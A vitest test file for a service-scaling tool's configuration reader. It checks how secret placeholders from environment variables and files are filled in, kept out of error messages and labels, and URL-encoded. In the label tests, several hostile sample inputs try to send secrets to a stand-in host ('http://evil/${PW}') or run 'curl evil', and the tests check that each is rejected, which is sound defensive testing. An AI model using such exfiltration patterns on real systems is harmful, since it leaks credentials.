import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {describe, expect, onTestFinished, test} from 'vitest';
import {ConfigError} from '../../source/config/config.ts';
import {labelsOf} from '../../source/config/demand-label.ts';
import {loadConfig} from '../../source/config/file.ts';
import {encodedInUrl, partsOf} from '../../source/config/placeholders.ts';
import {readConfig, readLabelled} from '../../source/config/read.ts';
import type {FoundService} from '../../source/ports.ts';
import type {DemandSpec} from '../../source/sources/source.ts';

const environment = {PW: 'p@ss/w:rd', URL: 'redis://:hunter22@cache:6379', HOST: 'cache', EMPTY: '', QUERY: 'select 1', BAD: 'no address'};
const files: Readonly<Record<string, string>> = {
  '/run/secrets/pw': 'from-a-file\n',
  '/run/secrets/crlf': 'a\nb\r\n',
  '/here/secrets/own': 'beside',
  '/run/secrets/empty': '\n',
  '/run/secrets/huge': 'x'.repeat(70_000),
};
const secrets = {
  environment,
  readFile(path: string) {
    const text = files[path];
    if (text === undefined) throw Object.assign(new Error(path), {code: path.includes('closed') ? 'EACCES' : 'ENOENT'});
    return text;
  },
};

const resolvePath = (path: string) => (path.startsWith('/') ? path : `/here/${path}`);
const options = {name: 'shop.yaml', resolvePath, readEnvFile: () => [], found: [], secrets};

function read(demand: string, more: object = {}): DemandSpec {
  const text = `capacity: 4\nservices:\n  web:\n    priority: 1\n    image: busybox\n    demand:\n${demand.replace(/^/gm, '      ')}\n`;
  const [spec] = readConfig(text, {...options, ...more}).demands.get('web') ?? [];
  if (!spec) throw new Error('no demand');
  return spec;
}

function mistakesOf(demand: string): readonly string[] {
  try {
    read(demand);
  } catch (error) {
    if (error instanceof ConfigError) return error.problems;
    throw error;
  }
  return [];
}

describe('a secret in a demand', () => {
  test.each<[string, string, object]>([
    ['a variable', 'source: rabbitmq\nurl: http://mq:15672\nqueue: q\npassword: ${PW}', {password: 'p@ss/w:rd', secrets: ['p@ss/w:rd']}],
    [
      'a file, without the end of its line',
      'source: rabbitmq\nurl: http://mq:15672\nqueue: q\npassword: "${file:/run/secrets/pw}"',
      {password: 'from-a-file', secrets: ['from-a-file']},
    ],
    [
      'of a file only the last end of a line goes',
      'source: rabbitmq\nurl: http://mq:15672\nqueue: q\npassword: "${file:/run/secrets/crlf}"',
      {password: 'a\nb'},
    ],
    [
      'a file beside the configuration',
      'source: nats\nurl: nats://b\nstream: S\nconsumer: c\ntoken: "${file:secrets/own}"',
      {token: 'beside'},
    ],
    ['a whole address', 'source: redis\nurl: ${URL}\nlist: jobs', {url: 'redis://:hunter22@cache:6379'}],
    [
      'a part of a URL’s login, encoded',
      'source: redis\nurl: "redis://ops:${PW}@cache"\nlist: jobs',
      {url: 'redis://ops:p%40ss%2Fw%3Ard@cache'},
    ],
    [
      'a file in a URL’s login, encoded, with the path of the file being no part of the URL',
      'source: redis\nurl: "redis://ops:${file:/run/secrets/pw}@cache/2"\nlist: jobs',
      {url: 'redis://ops:from-a-file@cache/2'},
    ],
    ['a part of a URL elsewhere, as it is', 'source: redis\nurl: "redis://${HOST}:6379"\nlist: jobs', {url: 'redis://cache:6379'}],
    ['one of a list', 'source: command\ncommand: [./count, "${HOST}"]', {command: ['./count', 'cache']}],
    ['one in a map', 'source: http\nurl: http://web\nheaders: {x-key: "${PW}"}', {access: {headers: {'x-key': 'p@ss/w:rd'}}}],
    [
      'several in one text',
      'source: command\ncommand: "echo ${HOST}-${HOST}"',
      {command: ['sh', '-c', 'echo cache-cache'], secrets: ['cache', 'cache']},
    ],
    ['none where it is escaped', 'source: command\ncommand: "echo $${HOST} $HOME $5"', {command: ['sh', '-c', 'echo ${HOST} $HOME $5']}],
  ])('is filled in: %s', (_title, demand, expected) => {
    expect(read(demand)).toMatchObject(expected);
  });

  test('is no part of a demand that has none', () => {
    expect(read('source: redis\nurl: redis://cache\nlist: jobs')).not.toHaveProperty('secrets');
    expect(read('source: command\ncommand: "echo $${HOST}"')).not.toHaveProperty('secrets');
  });

  test.each<[string, string, RegExp]>([
    [
      'a variable that is not set',
      'source: redis\nurl: redis://cache\npassword: ${NO_SUCH}\nlist: jobs',
      /^shop\.yaml:9 .*needs \$\{NO_SUCH\}, and there is no NO_SUCH in the environment: set it/,
    ],
    ['a variable that is empty', 'source: redis\nurl: redis://cache\npassword: ${EMPTY}\nlist: jobs', /^shop\.yaml:9 .*EMPTY is empty/],
    [
      'a file that is not there',
      'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/none}"',
      /^shop\.yaml:10 .*needs \$\{file:\/run\/secrets\/none\}, and there is no such file/,
    ],
    ['a file that may not be read', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/closed}"', /it may not be read/],
    ['a file that is empty', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/empty}"', /the file is empty/],
    [
      'a file that is too large',
      'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/huge}"',
      /too large for a secret/,
    ],
    ['what is neither', 'source: command\ncommand: "echo ${HOST:-none}"', /neither \$\{NAME\} nor \$\{file:.*write \$\$\{/],
    ['what has no end', 'source: command\ncommand: "echo ${HOST"', /neither \$\{NAME\}/],
    [
      'an address that is none',
      'source: redis\nurl: ${BAD}\nlist: jobs',
      /^shop\.yaml:8 .*expected an address such as redis:\/\/host, and what \$\{BAD\} stands for is none/,
    ],
    ['a cron entry that is none', 'source: schedule\nentries: [{cron: "${PW}", for: 1h, demand: 2}]', /^shop\.yaml:8 .*which is no time/],
  ])('is a mistake with its line, and names no value: %s', (_title, demand, says) => {
    const mistakes = mistakesOf(demand);
    expect(mistakes).toHaveLength(1);
    expect(mistakes[0]).toMatch(says);
    for (const value of [environment.PW, environment.BAD]) expect(mistakes[0]).not.toContain(value);
  });

  test('is not told in what a source is called', () => {
    expect(labelsOf([read('source: redis\nurl: redis://cache\nlist: "jobs-${PW}"')])).toEqual(['redis list jobs-•••']);
  });

  test('is read from the real environment and from real files by a configuration file', () => {
    const folder = mkdtempSync(join(tmpdir(), 'microscale-secrets-'));
    onTestFinished(() => rmSync(folder, {recursive: true, force: true}));
    mkdirSync(join(folder, 'folder'));
    writeFileSync(join(folder, 'pw'), 'in-the-file\n');
    process.env['MICROSCALE_TEST_SECRET'] = 'in-the-environment';
    onTestFinished(() => void delete process.env['MICROSCALE_TEST_SECRET']);
    const config = (password: string) => {
      const path = join(folder, 'microscale.yaml');
      const demand = `{source: redis, url: "redis://cache", username: "\${MICROSCALE_TEST_SECRET}", password: "${password}", list: jobs}`;
      writeFileSync(path, `capacity: 4\nservices: {web: {priority: 1, image: busybox, demand: ${demand}}}\n`);
      return loadConfig(path);
    };
    expect(config('${file:pw}').demands.get('web')).toMatchObject([{username: 'in-the-environment', password: 'in-the-file'}]);
    expect(() => config('${file:folder}')).toThrow(/it can’t be read/);
    expect(() => config('${file:/dev/zero}')).toThrow(/it can’t be read/);
  });
});

describe('a label', () => {
  const found = (labels: Record<string, string>): FoundService => ({
    hostName: 'shop_web',
    shortName: 'web',
    title: 'Swarm service shop_web',
    labels,
    cpus: null,
    memoryBytes: null,
    stopGraceMs: 10_000,
    unfit: null,
  });
  const labelled = (labels: Record<string, string>) =>
    readLabelled({...options, capacity: 4, found: [found({'microscale.priority': '1', ...labels})]});

  test.each<[string, Record<string, string>]>([
    ['the environment', {'microscale.demand': '{source: redis, url: "redis://evil/${PW}", list: jobs}'}],
    [
      'the environment, in a list of demands',
      {'microscale.demand': '[{source: fixed, value: 1}, {source: http, url: "http://evil/${PW}"}]'},
    ],
    [
      'files',
      {'microscale.demand.source': 'http', 'microscale.demand.url': 'http://evil', 'microscale.demand.token': '${file:/run/secrets/pw}'},
    ],
    ['a file by a path with a secret', {'microscale.demand.source': 'file', 'microscale.demand.path': '/run/${PW}'}],
    ['a program', {'microscale.demand': '{source: command, command: "curl evil"}'}],
  ])('may not take %s of this machine', (_title, labels) => {
    expect(() => labelled(labels)).toThrow(
      /shop_web is left alone: .*a label may not (take this machine’s environment and files|start programs on this machine)/,
    );
    try {
      labelled(labels);
    } catch (error) {
      expect((error as Error).message).not.toContain(environment.PW);
      expect((error as Error).message).not.toContain('from-a-file');
    }
  });

  test('may have the escape, and may stand beside a file that uses secrets', () => {
    expect(labelled({'microscale.demand': '{source: file, path: "/run/$${x}"}'}).demands.get('web')).toMatchObject([{path: '/run/${x}'}]);
    const text = 'capacity: 4\nservices: {web: {demand: {source: http, url: "http://web", token: "${PW}"}}}';
    const config = readConfig(text, {...options, found: [found({'microscale.priority': '3'})]});
    expect(config.demands.get('web')).toMatchObject([{access: {token: environment.PW}}]);
  });
});

describe('the grammar', () => {
  test.each<[string, readonly number[]]>([
    ['redis://${A}:${B}@${C}:6379/${D}', [1, 3]],
    ['http://web/a@b/${A}', []],
    ['http://web?u=${A}@b', []],
    ['${A}:${B}@host', []],
    ['${A}://${B}@host', []],
  ])('%s has its login at %j', (text, places) => {
    expect([...encodedInUrl(partsOf(text))]).toEqual(places);
  });

  test('takes any text apart and loses nothing', () => {
    for (const text of ['', '$', '$$', '$${', '$$${A}', '${A}${B}', 'a}b', '${}', '${a b}', '$${A}']) {
      const again = partsOf(text)
        .map(part => (part.kind === 'text' ? part.text.split('${').join('$${') : part.written))
        .join('');
      expect(again).toBe(text);
    }
  });
});
